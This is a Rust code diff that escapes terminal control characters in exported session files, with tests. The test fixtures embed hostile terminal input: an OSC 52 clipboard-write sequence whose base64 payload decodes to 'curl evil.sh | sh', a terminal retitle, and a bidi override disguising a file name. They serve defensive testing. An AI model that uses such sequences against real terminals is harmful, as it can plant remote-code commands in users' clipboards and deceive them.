@@ -445,13 +445,27 @@ pub fn write(c: &PortableCapsule) -> Exported {
     }
 }
 
-/// The capsule with every text value redacted.
+/// Text from the session as the file holds it: terminal control characters (ESC and the
+/// sequences it starts, BEL, C1 controls, NUL, a lone carriage return) and bidirectional
+/// overrides written as visible `\u{1b}` escapes, so `cat` on a capsule cannot set the
+/// clipboard, retitle the terminal or rewrite lines. A CRLF line end is a line end.
+/// The escapes are plain text that this function leaves as they are, so a loaded capsule
+/// exports byte-identically.
+fn file_text(s: &str) -> String {
+    if s.contains('\r') {
+        crate::util::terminal_text(&s.replace("\r\n", "\n")).into_owned()
+    } else {
+        crate::util::terminal_text(s).into_owned()
+    }
+}
+
+/// The capsule with every text value redacted and its control characters escaped.
 fn redact_capsule(c: &PortableCapsule) -> (PortableCapsule, RedactionReport) {
     let mut report = RedactionReport::default();
     let mut r = |s: &str| {
         let (out, found) = redact_with_report(s);
         report.merge(&found);
-        out.into_owned()
+        file_text(&out)
     };
     // A list is redacted as a whole: a model that writes a private key one line per item
     // must not leave its body behind in the items after the `BEGIN` line.
@@ -459,7 +473,7 @@ fn redact_capsule(c: &PortableCapsule) -> (PortableCapsule, RedactionReport) {
     let list = |v: &[String], _: &mut dyn FnMut(&str) -> String| {
         let (out, found) = crate::redact::redact_items(v);
         lists.borrow_mut().merge(&found);
-        out
+        out.iter().map(|item| file_text(item)).collect::<Vec<_>>()
     };
     let files = |v: &[FileArtifact], r: &mut dyn FnMut(&str) -> String| {
         v.iter()
@@ -1534,6 +1548,49 @@ mod tests {
         assert_eq!(headings, expected);
     }
 
+    /// What a capsule file may hold of the C0 and C1 control ranges: line ends and tabs.
+    fn raw_controls(text: &str) -> Vec<char> {
+        text.chars()
+            .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
+            .collect()
+    }
+
+    #[test]
+    fn terminal_control_bytes_from_the_session_are_written_as_visible_escapes() {
+        let mut c = sample();
+        let osc52 = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
+        c.title = Some("retitle \u{1b}]0;pwned\u{7} me".into());
+        c.state.goal = format!("fix the build {osc52}\r\nthen ship");
+        c.state
+            .completed
+            .push("cleared \u{1b}[2J the screen\u{9b}31m".into());
+        c.state.findings.push("NUL \0 in output\rover".into());
+        c.state.decisions.push(Decision {
+            decision: "beep \u{7}".into(),
+            rationale: "bidi \u{202e}txt.exe".into(),
+        });
+        c.artifacts.verification.push(Verification {
+            command: "printf '\u{1b}[31mred'".into(),
+            outcome: VerificationOutcome::Passed,
+            entry_id: "e9".into(),
+            edited_since: false,
+        });
+        let text = write(&c).text;
+        assert_eq!(raw_controls(&text), Vec::<char>::new(), "{text}");
+        assert!(!text.contains('\u{202e}'));
+        assert!(text.contains("fix the build \\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}\n"));
+        assert!(text.contains("cleared \\u{1b}[2J the screen\\u{9b}31m"));
+        assert!(text.contains("NUL \\u{0} in output\\u{d}over"));
+        assert!(text.contains("# retitle \\u{1b}]0;pwned\\u{7} me"));
+        // The escapes are text: the file loads and exports to the same bytes.
+        let parsed = parse(&text).unwrap();
+        assert_eq!(
+            parsed.capsule.state.goal,
+            "fix the build \\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}\nthen ship"
+        );
+        assert_eq!(write(&parsed.capsule).text, text);
+    }
+
     #[test]
     fn secrets_are_redacted_on_write() {
         let mut c = sample();
@@ -2002,7 +2059,7 @@ tokens_before: 40000\r\ntokens_after:  3000\r\n---\r\n# Hand-off\r\nA note.\r\n\
         /// Text made of the pieces that matter to the format: markers, escapes, comments,
         /// blank lines, indentation.
         fn text() -> impl Strategy<Value = String> {
-            const PIECES: [&str; 18] = [
+            const PIECES: [&str; 23] = [
                 "a",
                 "b c",
                 " ",
@@ -2021,6 +2078,11 @@ tokens_before: 40000\r\ntokens_after:  3000\r\n---\r\n# Hand-off\r\nA note.\r\n\
                 "\r\n",
                 "é",
                 "  - Why: y",
+                "\u{1b}]52;c;aGk=\u{7}",
+                "\u{9b}",
+                "\0",
+                "\r",
+                "\\u{1b}",
             ];
             proptest::collection::vec(proptest::sample::select(&PIECES[..]), 0..8)
                 .prop_map(|v| v.concat())
